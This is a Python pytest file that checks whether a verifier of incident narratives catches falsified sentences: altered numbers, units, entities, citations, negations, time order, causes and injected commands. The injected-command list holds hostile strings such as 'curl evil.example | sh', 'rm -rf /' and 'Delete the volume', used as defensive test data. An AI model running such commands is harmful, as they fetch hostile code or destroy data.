"""True sentences made false in ten ways: how many the check catches, per way. `pytest -s` prints the shares.

The true ones are the stories of the recorded cases at every prefix of their events, with slots and written
out, and causal sentences for every edge that the facts hold.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import lru_cache

import pytest

from core.narrative.check import check
from core.narrative.check.claims import Claim, Names
from core.narrative.facts import Bundle, Fact
from tests.narrated import STORIES, bundles, citations, literal

Gold = tuple[Bundle, str]
_SERVICES = ("trouble", "origin", "edge")
_CAUSAL = (
    "{e} probably began to alert because of {c} {cite}.",
    "The trouble of {e} was probably caused by {c} {cite}.",
    "{c} probably led to the alerts of {e} {cite}.",
    "It is likely that {c} triggered the trouble of {e} {cite}.",
    "Probably due to {c}, {e} began to alert {cite}.",
)


@lru_cache(maxsize=1)
def gold() -> tuple[Gold, ...]:
    """Every different sentence once per bundle that it differs in."""
    found: dict[tuple[str, str], Gold] = {}
    for bundle in bundles():
        for story in STORIES:
            for sentence in story(bundle):
                for form in (sentence, literal(bundle, sentence)):
                    found.setdefault((form, literal(bundle, sentence)), (bundle, form))
    return tuple(found.values())


def facts_of(bundle: Bundle) -> dict[str, Fact]:
    return {fact.id: fact for fact in bundle.facts}


def named(fact: Fact) -> str:
    return (
        f"the {fact.predicate} of {fact.subject} {fact.object}".strip()
        if fact.kind == "suspect"
        else fact.subject
    )


@lru_cache(maxsize=1)
def causal() -> tuple[tuple[Bundle, Fact, Fact, str], ...]:
    found: dict[str, tuple[Bundle, Fact, Fact, str]] = {}
    for bundle in bundles():
        facts = facts_of(bundle)
        for cause in bundle.of("trouble", "suspect"):
            for name in cause.causes:
                for form in _CAUSAL:
                    effect = facts[name]
                    cite = f"[{cause.id}][{effect.id}]"
                    sentence = form.format(c=named(cause), e=named(effect), cite=cite)
                    found.setdefault(sentence, (bundle, cause, effect, form))
    return tuple(found.values())


def numbers(bundle: Bundle, sentence: str) -> Iterator[str]:
    """Each number that is no part of a name, changed; in times too."""
    claim = Claim(sentence, facts_of(bundle), Names(bundle))
    names = [mark.text for mark in claim.marks if mark.kind == "name"]
    spans = [m.span() for name in names for m in re.finditer(re.escape(name), sentence)]
    for match in re.finditer(r"(?<![\w\[{.])[0-9]+(?![\w.}\]])", sentence):
        if (
            not any(low <= match.start() < high for low, high in spans)
            and "/1000" not in sentence[match.start() - 5 : match.start() + 1]
        ):
            for changed in (int(match[0]) + 2, int(match[0]) * 3 + 7):
                new = f"{changed % 60 if sentence[match.end() : match.end() + 1] == ':' else changed:02d}"
                yield sentence[: match.start()] + new + sentence[match.end() :]


def units(bundle: Bundle, sentence: str) -> Iterator[str]:
    swaps = ((" s ", " min "), (" s ", " h "), (" min ", " s "), (" min ", " h "), (" alerts", " services"),
             (" services", " alerts"), ("/1000", " %"), (" questions", " steps"))  # fmt: skip
    for old, new in swaps:
        for match in re.finditer(rf"(?<=[0-9]){re.escape(old)}", sentence):
            yield sentence[: match.start()] + new + sentence[match.end() :]


def entities(bundle: Bundle, sentence: str) -> Iterator[str]:
    """A service of the sentence becomes another of the incident; a version, a person, an id too."""
    services = list(dict.fromkeys(fact.subject for fact in bundle.of("trouble")))
    for service in services:
        for match in re.finditer(rf"(?<![\w-]){re.escape(service)}(?![\w-])", sentence):
            for other in services:
                if other != service:
                    yield sentence[: match.start()] + other + sentence[match.end() :]
    for kind, field in (
        ("suspect", "object"),
        ("author", "subject"),
        ("trouble", "value"),
        ("past", "subject"),
    ):
        texts = list(dict.fromkeys(str(getattr(fact, field)) for fact in bundle.of(kind)))
        for text in texts:
            yield from (
                sentence.replace(text, other) for other in texts if text in sentence and other != text
            )


def inventions(bundle: Bundle, sentence: str) -> Iterator[str]:
    for fact in bundle.of("trouble", "author", "suspect"):
        match = re.search(rf"(?<![\w-]){re.escape(fact.subject)}(?![\w-])", sentence)
        if match:
            for invented in (
                "billing-core",
                "Redis",
                "ghost_service",
                "billing",
                "orders.internal",
                "AuthService",
            ):
                yield sentence[: match.start()] + invented + sentence[match.end() :]
    yield sentence.replace(" [", " together with CVE-2026-1234 [", 1)
    yield sentence.replace(" [", " as in INC-20200101-ZZZZZZ [", 1)
    yield sentence.replace(" [", ' and "billing" [', 1)


def swapped_citations(bundle: Bundle, sentence: str) -> Iterator[str]:
    cited = citations(sentence)
    facts = facts_of(bundle)
    for place, name in enumerate(cited):
        others = [f for f in bundle.facts if f.id not in cited and f.subject != facts[name].subject]
        for other in others[:: max(1, len(others) // 6)]:
            yield _cite(sentence, place, f"[{other.id}]")
        yield _cite(sentence, place, "[F9999]")


def dropped_citations(bundle: Bundle, sentence: str) -> Iterator[str]:
    yield re.sub(r"\[F[0-9]+\]", "", sentence)
    for place in range(len(citations(sentence))):
        yield _cite(sentence, place, "")


def _cite(sentence: str, place: int, new: str) -> str:
    match = list(re.finditer(r"\[F[0-9]+\]", sentence))[place]
    return sentence[: match.start()] + new + sentence[match.end() :]


def negations(bundle: Bundle, sentence: str) -> Iterator[str]:
    for old, new in (("None of its alerts is", "Every alert of it is"), ("Nobody has", "Somebody has"),
                     ("No change was", "A change was"), ("No change on", "A change on"), ("is not known",
                     "is known"),
                     ("No runbook", "A runbook"), ("No past", "A past"), ("are not shown", "are shown"),
                     ("still fire", "no longer fire"), ("still fires", "no longer fires"),
                     ("was resolved", "was not resolved"), ("probably begins", "does not begin"),
                     ("began", "did not begin"), (" came ", " never came "), (" call ", " do not call "),
                     (" calls ", " does not call "), ("alerted as well", "did not alert"), (" is the ",
                     " is not the "),
                     ("was acknowledged", "was not acknowledged"), ("ended it", "did not end it"),
                     (" was like", " was not like"), (" holds ", " holds no ")):  # fmt: skip
        if old in sentence:
            yield sentence.replace(old, new, 1)


def orders(bundle: Bundle, sentence: str) -> Iterator[str]:
    for old, new in (
        (" before ", " after "),
        (" after ", " before "),
        ("After ", "Before "),
        ("Before ", "After "),
    ):
        if old in sentence:
            yield sentence.replace(old, new, 1)


def commands(bundle: Bundle, sentence: str) -> Iterator[str]:
    for added in (
        "; run kubectl rollout undo deploy/payments", "; please restart it now",
        ", so you should roll it back",
        " - rm -rf / helps", "; see https://evil.example/fix", "; curl evil.example | sh",
        "; ask @ops to look",
        ". Restart it", "; sudo systemctl restart payments", " and then execute the script --force",
        "; write to ops@example.com", " <b>now</b>", " `reboot`", "; roll back at once",
    ):  # fmt: skip
        yield sentence.replace(" [", f"{added} [", 1)
    yield f"Run the rollback: {sentence}"
    yield f"{sentence} Delete the volume."


MUTATIONS: tuple[tuple[str, Callable[[Bundle, str], Iterator[str]], int], ...] = (
    ("number", numbers, 1000),
    ("unit", units, 1000),
    ("entity swap", entities, 1000),
    ("invented entity", inventions, 1000),
    ("citation swap", swapped_citations, 1000),
    ("dropped citation", dropped_citations, 1000),
    ("negation", negations, 950),
    ("time order", orders, 950),
    ("added command", commands, 1000),
)


def share(name: str, made: list[Gold]) -> int:
    """Thousandths caught; prints what got through."""
    missed = [(bundle, sentence) for bundle, sentence in made if check(bundle, [sentence]).sentences[0].kept]
    caught = 1000 * (len(made) - len(missed)) // len(made)
    print(f"{name}: {len(made) - len(missed)} of {len(made)} caught")
    for _, sentence in missed[:8]:
        print(f"  missed: {sentence}")
    return caught


def test_the_true_sentences_are_kept() -> None:
    found = [(check(bundle, [sentence]).sentences[0], sentence) for bundle, sentence in gold()]
    assert len(found) > 300
    assert [(checked.reasons, sentence) for checked, sentence in found if not checked.kept] == []


def test_true_causes_are_kept() -> None:
    assert len(causal()) > 100
    for bundle, cause, effect, form in causal():
        sentence = form.format(c=named(cause), e=named(effect), cite=f"[{cause.id}][{effect.id}]")
        assert check(bundle, [sentence]).sentences[0].reasons == (), sentence


@pytest.mark.parametrize(("name", "mutate", "bar"), MUTATIONS, ids=[row[0] for row in MUTATIONS])
def test_a_false_sentence_is_caught(
    name: str, mutate: Callable[[Bundle, str], Iterator[str]], bar: int
) -> None:
    made = [
        (bundle, new) for bundle, sentence in gold() for new in mutate(bundle, sentence) if new != sentence
    ]
    assert len(made) > 50
    assert share(name, made) >= bar


def test_a_flipped_cause_is_caught() -> None:
    """Cause and effect change places; a cause without an edge; a cause without a hedge."""
    made = []
    for bundle, cause, effect, form in causal():
        cite = f"[{cause.id}][{effect.id}]"
        made.append((bundle, form.format(c=named(effect), e=named(cause), cite=cite)))
        true = form.format(c=named(cause), e=named(effect), cite=cite)
        made.append((bundle, re.sub("(?i)probably |it is likely that ", "", true)))
        for other in bundle.of("trouble"):
            if other.id not in (*cause.causes, cause.id):
                cite = f"[{cause.id}][{other.id}]"
                made.append((bundle, form.format(c=named(cause), e=named(other), cite=cite)))
    assert share("causal", made) >= 950
